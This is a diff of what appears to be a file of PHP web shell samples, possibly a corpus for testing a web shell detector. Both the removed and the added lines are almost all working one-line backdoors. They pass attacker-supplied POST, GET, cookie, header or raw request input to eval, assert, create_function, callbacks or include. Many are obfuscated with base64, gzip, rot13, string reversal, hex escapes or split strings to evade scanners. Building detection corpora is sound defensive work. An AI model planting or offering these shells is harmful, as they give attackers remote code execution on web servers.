@@ -1,80 +1,47 @@
-<?php eval($_POST['pass']); ?>
-<?php eval($_GET['c']); ?>
-<?php eval($_REQUEST['x']); ?>
-<?php eval($_COOKIE['k']); ?>
-<?php eval($_SERVER['HTTP_X_CODE']); ?>
-<?php eval( $_POST['pass'] ); ?>
-<?php eval( $_GET['c'] ); ?>
-<?php eval( $_REQUEST['x'] ); ?>
-<?php eval ($_POST['pass']); ?>
-<?php eval ($_GET['c']); ?>
-<?php eval ($_REQUEST['x']); ?>
-<?php Eval($_POST['pass']); ?>
-<?php Eval($_REQUEST['x']); ?>
 <?php EVAL($_POST['pass']); ?>
-<?php EVAL($_REQUEST['x']); ?>
-<?php eval(stripslashes($_POST['code'])); ?>
-<?php eval(stripslashes($_REQUEST['code'])); ?>
-<?php eval(base64_decode($_POST['z0'])); ?>
-<?php eval(base64_decode($_GET['z'])); ?>
-<?php eval(base64_decode($_REQUEST['z'])); ?>
-<?php eval(base64_decode($_COOKIE['z'])); ?>
-<?php eval(gzuncompress(base64_decode('eJxLLUvM0VBJzs9NSCxKzdNUSMvMS0nVBAAyEwWt'))); ?>
-<?php eval(gzinflate(str_rot13(base64_decode('HJ3HkqNIEkQ/p')))); ?>
-<?php eval(str_rot13(gzinflate(base64_decode('rUl9cttGFP4Xn')))); ?>
-<?php eval(base64_decode(strrev('==wOpkSXnMHZvRmI'))); ?>
-<?php eval(gzinflate(base64_decode(str_rot13('F0ba2nfgF')))); ?>
-<?php eval(file_get_contents("php://input")); ?>
-<?php assert($_POST['x']); ?>
-<?php assert($_REQUEST['x']); ?>
-<?php assert ($_POST['x']); ?>
-<?php assert ($_REQUEST['x']); ?>
-<?php ASSERT($_POST['x']); ?>
-<?php assert(base64_decode($_POST['x'])); ?>
-<?php assert(stripslashes($_REQUEST['x'])); ?>
-<?php assert(file_get_contents('php://input')); ?>
-<?php $f = create_function('',$_POST['c']); $f(); ?>
-<?php $f = create_function("", $_POST['c']); $f(); ?>
-<?php call_user_func($_GET['f'], $_GET['a']); ?>
-<?php call_user_func($_POST['f'], $_POST['a']); ?>
-<?php call_user_func($_REQUEST['f'], $_REQUEST['a']); ?>
-<?php call_user_func("assert", $_POST['k']); ?>
-<?php array_map("assert", (array)$_POST['k']); ?>
-<?php array_map($_GET['f'], (array)$_GET['a']); ?>
-<?php array_map($_POST['f'], (array)$_POST['a']); ?>
-<?php array_map($_REQUEST['f'], (array)$_REQUEST['a']); ?>
-<?php preg_replace("/.*/e", $_POST['c'], ""); ?>
-<?php preg_replace('/.*/e', $_POST['c'], ''); ?>
-<?php preg_replace("/.*/e",$_REQUEST['c'],""); ?>
-<?php $_GET['a']($_GET['b']); ?>
-<?php $_POST['x']($_POST['y']); ?>
-<?php $_REQUEST[0]($_REQUEST[1]); ?>
-<?php $_COOKIE['f']($_COOKIE['a']); ?>
-<?php @$_GET['a'](@$_GET['b']); ?>
-<?php @$_POST['a'](@$_POST['b']); ?>
-<?php @$_REQUEST['a'](@$_REQUEST['b']); ?>
-<?php $_POST['x'] ($_POST['y']); ?>
-<?php $_GET['x'] ($_GET['y']); ?>
-<?php $_=$_POST['a']; $_($_POST['b']); ?>
-<?php $_=$_GET['a']; $_($_GET['b']); ?>
-<?php $p = ${"_PO"."ST"}; $p['a']($p['b']); ?>
-<?php $p = ${'_PO'.'ST'}; $p['a']($p['b']); ?>
-<?php $a = "as"."se"."rt"; $a($_POST['x']); ?>
-<?php $a = 'as'.'se'.'rt'; $a($_POST['x']); ?>
-<?php $e = "e"."v"."a"."l"; ?>
-<?php $f = str_rot13("riny"); ?>
-<?php $f = strrev('tressa'); $f($_POST['x']); ?>
-<?php $f = strrev("tressa"); $f($_POST['x']); ?>
-<?php $c = base64_decode('ZXZhbCgkX1BPU1RbY10pOw=='); ?>
-<?php $c = base64_decode("ZXZhbCgkX1BPU1RbY10pOw=="); ?>
-<?php $c = 'ZXZhbCgkX1BPU1RbJ2MnXSk7'; ?>
-<?php $c = 'ZXZhbCgkX0dFVFsnYyddKTs='; ?>
-<?php $c = 'ZXZhbCgkX1JFUVVFU1RbJ2MnXSk7'; ?>
-<?php $c = 'YXNzZXJ0KCRfUE9TVFsnYyddKTs='; ?>
-<?php $f = "\x61\x73\x73\x65\x72\x74"; $f($_POST['x']); ?>
-<?php $f = "\145\166\141\154\050"; ?>
-<?php $f = chr(101).chr(118).chr(97).chr(108); ?>
-<?php eval($_POST[1]);?>
-<?php assert($_POST[1]);?>
-<?=eval($_POST[1]);?>
-<script language="php">eval($_POST['x']);</script>
+<?php Eval ( $_GET [ 'c' ] ) ; ?>
+<?php eval(/* run */$_REQUEST['x']); ?>
+<?php @eval($_COOKIE["k"]); ?>
+<?php eVaL(   $_SERVER['HTTP_X_CODE']   ); ?>
+<?php eval(@$_POST['z0']);?>
+<?PHP @Eval(StripSlashes($_REQUEST['cmd'])); ?>
+<?php eval(base64_decode( $_POST['b'] )); ?>
+<?php eval(BASE64_DECODE(@$_COOKIE['c'])); ?>
+<?php eval(gzinflate(base64_decode('80jNycnXUQjPL8pJUQQA'))); ?>
+<?php eval(gzuncompress(base64_decode('eJzLSM3JyVcozy/KSVEEAB0JBF4='))); ?>
+<?php eval(str_rot13('cevag("uryyb");')); ?>
+<?php eval (strrev(';)"olleh"(tnirp')); ?>
+<?php eval(file_get_contents( "php://input" )); ?>
+<?php ASSERT($_POST['a']); ?>
+<?php assert ( @$_GET['a'] ) ; ?>
+<?php assert(base64_decode($_REQUEST['q'])); ?>
+<?php $f = create_function( '' , $_POST['body'] ); $f(); ?>
+<?php $f = Create_Function("", base64_decode($_COOKIE['z'])); $f(); ?>
+<?php call_user_func( $_GET['f'], $_GET['a'] ); ?>
+<?php Call_User_Func('assert', $_POST['x']); ?>
+<?php array_map( 'assert' , (array) $_REQUEST['p'] ); ?>
+<?php Array_Map($_POST['f'], array($_POST['a'])); ?>
+<?php preg_replace( "/.*/e" , $_POST['x'], ""); ?>
+<?php $_GET['f'] ( $_POST['a'] ); ?>
+<?php $_REQUEST["f"](@$_REQUEST["a"]); ?>
+<?php ${'_P'.'OST'}['x'](${"_PO"."ST"}['y']); ?>
+<?php $a = "as" . "sert"; $a($_POST['x']); ?>
+<?php $c = 'ass'.'ert'; $c($_GET['x']); ?>
+<?php $f = str_rot13("nffreg"); $f($_POST['x']); ?>
+<?php $f = strrev( 'tressa' ); $f($_POST['x']); ?>
+<?php $f = base64_decode("YXNzZXJ0"); $f($_POST['x']); ?>
+<?php $d = strrev("edoced_46esab"); eval($d($_POST['z'])); ?>
+<?php $k="\x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65"; @eval($k("ZWNobyAxOw==")); ?>
+<?php $s=chr(101).chr(118).chr(97).chr(108); ?>
+<?php register_shutdown_function($_REQUEST['f'], $_REQUEST['a']); ?>
+<?php ob_start("assert"); echo $_REQUEST['x']; ob_end_flush(); ?>
+<?php forward_static_call_array($_POST['f'], array($_POST['a'])); ?>
+<?php @include($_POST['inc']); ?>
+<?php include('php://input'); ?>
+<?php preg_replace("/x/E", $_POST['c'], "x"); ?>
+<?php echo gzuncompress(base64_decode('eJwrzy/KSQEABhwCLg==')); eval("?>".gzuncompress(base64_decode('eJyzsS/IKFAoLUovyS/JLM7Mz1MISS0u0VEoSS0u0VEoLU4FAJ04CjU='))); ?>
+<?php $p=file_get_contents('php://input'); $p=openssl_decrypt($p,'AES128',$k); class C{function __invoke($x){eval($x."");}} call_user_func(new C(),$p); ?>
+<?php for($i=0;$i<strlen($d);$i++){$d[$i]=$d[$i]^$k[$i+1&15];} ?>
+<?php $x = $_POST; $pass='p'; $payloadName='payload'; eval($payload); ?>
+<script language="PHP"> eval($_POST['x']); </script>
+<?= EVAL($_GET['q']) ?>
